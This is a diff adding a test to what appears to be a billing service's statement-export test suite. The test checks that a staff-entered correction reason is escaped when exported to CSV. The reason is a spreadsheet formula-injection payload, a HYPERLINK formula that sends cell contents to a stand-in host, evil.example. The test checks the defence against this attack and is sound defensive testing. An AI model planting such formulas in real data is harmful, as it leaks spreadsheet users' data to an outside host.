@@ -127,6 +127,29 @@ describe('statement', () => {
     expect(text).toContain('Абонентская плата');
   });
 
+  it('exports a staff-written reason that looks like a formula as text, not as a live formula', async () => {
+    const s = await signedInSubscriber(t.app, t.database.db, { balance: 10_000 });
+    const finance = await buildStaff(t.database.db, { role: 'finance' });
+    const reason = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")';
+    const corr = await t.app.inject({
+      method: 'POST',
+      url: `/api/staff/accounts/${s.account.id}/corrections`,
+      headers: finance.auth,
+      payload: { amount: -500, reason, idempotencyKey: `csv-${s.account.id}` },
+    });
+    expect(corr.statusCode).toBe(200);
+    const today = todayIn('Europe/Moscow');
+    const csv = await t.app.inject({
+      method: 'GET',
+      url: `/api/me/statement.csv?from=${addDays(today, -3)}&to=${addDays(today, 1)}`,
+      headers: s.auth,
+    });
+    const line = csv.body.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
+    // The last cell starts with an apostrophe inside quotes: a spreadsheet shows the text as typed.
+    expect(line).toContain(`-5.00;`);
+    expect(line.split(/;(?=[^;]*$)/)[1] ?? line).toMatch(/^"'=HYPERLINK/);
+  });
+
   it('refuses a bad period with a clear error', async () => {
     const s = await withHistory();
     const res = await t.app.inject({
